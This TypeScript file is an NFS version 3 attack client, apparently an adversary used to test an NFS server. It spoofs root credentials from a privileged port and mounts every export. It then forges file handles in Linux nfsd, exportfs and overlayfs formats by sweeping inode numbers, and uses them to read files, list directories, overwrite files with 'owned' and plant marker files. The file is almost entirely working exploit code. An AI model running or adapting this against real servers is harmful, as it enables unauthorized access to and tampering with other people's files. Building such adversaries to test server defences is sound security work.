/**
 * A client of NFS version 3 that keeps no rule: it mounts what it may, and then
 * asks for files by handles that it makes up.
 *
 * Source: RFC 1813; Linux, fs/nfsd/nfsfh.h (version 1 handles), exportfs.h
 * (`fid_type`), fs/overlayfs/overlayfs.h (`struct ovl_fh`).
 */
import { once } from 'node:events'
import { createConnection, type Socket } from 'node:net'
import { opaque, text, uint32, XdrReader } from '../../src/rehearsal/nfs/xdr.ts'

const MOUNT = { program: 100005, version: 3 }
const NFS = { program: 100003, version: 3 }

interface Rpc {
  call(procedure: number, args: Uint8Array): Promise<XdrReader>
  close(): void
}

/** Calls are answered in any order. */
async function openRpc(
  server: { address: string; port: number; program: number; version: number },
  from: string,
): Promise<Rpc> {
  const socket = await connect(server, from)
  const waiting = new Map<number, (reply: XdrReader) => void>()
  let received = Buffer.alloc(0)
  socket.on('data', (bytes) => {
    received = Buffer.concat([received, bytes])
    while (received.length >= 4) {
      const length = received.readUInt32BE(0) % 0x80000000
      if (received.length < 4 + length) return
      const reply = new XdrReader(received.subarray(4, 4 + length))
      received = received.subarray(4 + length)
      const xid = reply.uint32()
      waiting.get(xid)?.(resultOf(reply))
      waiting.delete(xid)
    }
  })
  let xid = 1
  const root = Buffer.concat([uint32(0), text('node'), uint32(0), uint32(0), uint32(0)])
  return {
    call(procedure, args) {
      xid += 1
      const head = [xid, 0, 2, server.program, server.version, procedure].map(uint32)
      const message = Buffer.concat([...head, uint32(1), opaque(root), uint32(0), uint32(0), args])
      const answer = new Promise<XdrReader>((resolve) => waiting.set(xid, resolve))
      socket.write(Buffer.concat([uint32(0x80000000 + message.length), message]))
      return answer
    },
    close: () => void socket.destroy(),
  }
}

const REFUSED = 13

/** What follows the status of the call as such; a call that isn't carried out is an error like any other. */
function resultOf(reply: XdrReader): XdrReader {
  reply.uint32()
  const isDenied = reply.uint32() !== 0
  if (isDenied) return new XdrReader(uint32(REFUSED))
  reply.uint32()
  reply.opaque()
  return reply.uint32() === 0 ? reply : new XdrReader(uint32(REFUSED))
}

/** From a port that only root may use. */
async function connect(server: { address: string; port: number }, from: string): Promise<Socket> {
  for (let localPort = 1000; ; localPort -= 1) {
    const socket = createConnection({
      host: server.address,
      port: server.port,
      localAddress: from,
      localPort,
    })
    try {
      await once(socket, 'connect')
      return socket.setNoDelay(true)
    } catch (error) {
      socket.destroy()
      if ((error as NodeJS.ErrnoException).code !== 'EADDRINUSE' || localPort < 700) throw error
    }
  }
}

/** What the attacker knows of the server: more than a real one would. */
export interface Knowledge {
  server: string
  mountPort: number
  /** Every folder that is exported to anybody. */
  folders: string[]
  /** How handles name file systems: of every export, and of those of the head itself. */
  fsids: { type: number; bytes: Buffer }[]
  /** UUIDs of file systems that an overlay's handle may name as its layer. */
  layers: Buffer[]
  /** Files worth having, and their folders. */
  inodes: { ino: number; generation: number }[]
  /** Besides, every inode up to this one. */
  sweep: number
}

export interface Loot {
  handles: number
  /** Answers to GETATTR that are no error. */
  found: number
  /** What was read, whatever file it is of. */
  reads: Buffer[]
  names: string[]
}

const FSID_BYTES = [8, 4, 12, 8, 4, 8, 16, 24]
const OVERLAY = 0xf8
/** How many calls are under way at once. */
const AT_ONCE = 128
/** Inodes that are asked for where no handle was given. */
const FEW = 40
const READ_BYTES = 65536
export const MARK = 'node-was-here'

/** @param from the address it has */
export async function attack(knowledge: Knowledge, from: string): Promise<Loot> {
  const { server, mountPort } = knowledge
  const loot: Loot = { handles: 0, found: 0, reads: [], names: [] }
  const mount = await openRpc({ address: server, port: mountPort, ...MOUNT }, from)
  const roots: Buffer[] = []
  for (const folder of knowledge.folders) {
    const reply = await mount.call(1, text(folder))
    if (reply.uint32() === 0) roots.push(Buffer.from(reply.opaque()))
  }
  mount.close()
  const nfs = await openRpc({ address: server, port: 2049, ...NFS }, from)
  const samples = (await Promise.all(roots.map((root) => makeFile(nfs, root)))).flatMap((one) => one ?? [])
  const forged = new Map<string, Buffer>()
  for (const handle of forgeries(knowledge, [...roots, ...samples]))
    forged.set(handle.toString('hex'), handle)
  loot.handles = forged.size
  const found: { handle: Buffer; type: number }[] = []
  await inParallel([...forged.values()], async (handle) => {
    const reply = await nfs.call(1, opaque(handle))
    if (reply.uint32() === 0) found.push({ handle, type: reply.uint32() })
  })
  loot.found = found.length
  // All is looked at before anything is written, so that what was read can be told.
  await inParallel(found, async ({ handle, type }) => {
    if (type === 1) loot.reads.push(await read(nfs, handle))
    if (type === 2) loot.names.push(...(await list(nfs, handle)))
  })
  await inParallel(found, async ({ handle, type }) => {
    if (type === 1)
      await nfs.call(7, Buffer.concat([opaque(handle), ...[0, 0, 5, 2].map(uint32), text('owned')]))
    if (type === 2) await makeFile(nfs, handle)
  })
  nfs.close()
  return loot
}

async function inParallel<T>(values: readonly T[], work: (value: T) => Promise<void>): Promise<void> {
  const left = values.values()
  const lane = async () => {
    for (const value of left) await work(value)
  }
  await Promise.all(Array.from({ length: AT_ONCE }, lane))
}

/** @returns the new file's handle */
async function makeFile(nfs: Rpc, folder: Buffer): Promise<Buffer | undefined> {
  const mode = [0, 1, 0o644, 0, 0, 0, 0, 0].map(uint32)
  const reply = await nfs.call(8, Buffer.concat([opaque(folder), text(MARK), ...mode]))
  return reply.uint32() === 0 && reply.uint32() === 1 ? Buffer.from(reply.opaque()) : undefined
}

async function read(nfs: Rpc, handle: Buffer): Promise<Buffer> {
  const reply = await nfs.call(6, Buffer.concat([opaque(handle), ...[0, 0, READ_BYTES].map(uint32)]))
  if (reply.uint32() !== 0) return Buffer.alloc(0)
  if (reply.uint32() === 1) reply.bytes(84)
  reply.bytes(8)
  return Buffer.from(reply.opaque())
}

async function list(nfs: Rpc, handle: Buffer): Promise<string[]> {
  const reply = await nfs.call(16, Buffer.concat([opaque(handle), ...[0, 0, 0, 0, 32768].map(uint32)]))
  if (reply.uint32() !== 0) return []
  if (reply.uint32() === 1) reply.bytes(84)
  reply.bytes(8)
  const names: string[] = []
  while (reply.uint32() === 1) {
    reply.bytes(8)
    names.push(reply.text())
    reply.bytes(8)
  }
  return names
}

const le = (...values: number[]): Buffer => {
  const bytes = Buffer.alloc(4 * values.length)
  for (const [index, value] of values.entries()) bytes.writeUInt32LE(value, 4 * index)
  return bytes
}

/** Each inode in each way in which a handle can name one. */
function* forgeries({ fsids, layers, inodes, sweep }: Knowledge, real: readonly Buffer[]): Generator<Buffer> {
  const upTo = (most: number) => [
    ...inodes,
    ...Array.from({ length: most }, (_, ino) => ({ ino, generation: 0 })),
  ]
  const [parent = { ino: 2, generation: 0 }] = inodes
  const names = fsids.map((fsid) => ({ ...fsid, wanted: upTo(FEW) }))
  for (const handle of real) {
    const type = handle[2] ?? 0
    names.push({ type, bytes: handle.subarray(4, 4 + (FSID_BYTES[type] ?? 0)), wanted: upTo(sweep) })
  }
  for (const { type, bytes, wanted } of names) {
    const make = (fileid: number, body: Buffer) =>
      Buffer.concat([Buffer.from([1, 0, type, fileid]), bytes, body])
    yield make(0, Buffer.alloc(0))
    for (const { ino, generation } of wanted) {
      yield make(1, le(ino, generation))
      yield make(2, le(ino, generation, parent.ino, parent.generation))
      yield make(0x81, le(ino, 0, generation))
      yield make(0x82, le(ino, 0, generation, parent.ino, 0, parent.generation))
    }
  }
  for (const handle of real.filter((one) => one[3] === OVERLAY)) {
    // Three bytes of padding, then: version, magic, length, flags, type, UUID, the layer's own handle.
    const start = 4 + (FSID_BYTES[handle[2] ?? 0] ?? 0)
    const inner = start + 3
    // Of the lower layer, of the upper one.
    for (const uuid of [handle.subarray(inner + 5, inner + 21), ...layers])
      for (const flags of [0, 4])
        for (const { ino, generation } of upTo(sweep)) {
          const body = Buffer.concat([Buffer.from([0, 0xfb, 29, flags, 1]), uuid, le(ino, generation)])
          yield Buffer.concat([handle.subarray(0, inner), body])
        }
  }
}
